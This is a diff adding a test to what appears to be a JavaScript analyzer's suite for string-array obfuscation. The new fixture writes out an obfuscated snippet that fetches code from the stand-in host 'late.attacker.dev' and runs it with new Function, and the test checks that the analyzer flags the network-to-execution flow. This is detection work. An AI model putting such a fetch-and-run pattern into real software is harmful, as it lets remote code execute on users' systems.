@@ -58,6 +58,21 @@ describe('a string array', () => {
     ]);
   });
 
+  it('hides no answer that a function which passes calls on gives', () => {
+    const facts = factsOf(
+      withStringArray(
+        (word) => `
+          const proxy = { jKlMn: function (f, a) { return f(a); } };
+          proxy.jKlMn(fetch, ${word('https://late.attacker.dev/p')})[${word('then')}]((answer) => answer[${word('text')}]())[${word('then')}]((text) => { const run = new Function(text); proxy.jKlMn(run, 0); });`,
+        { encoding: 'rc4', array: 'function', turns: 3 },
+      ),
+    );
+    assert.deepEqual(
+      facts.flows.map(({ source, sink }) => [source.kind, sink.kind]),
+      [['network-response', 'code-execution']],
+    );
+  });
+
   it('of pieces of texts hides no address', () => {
     const facts = factsOf(
       withStringArray(
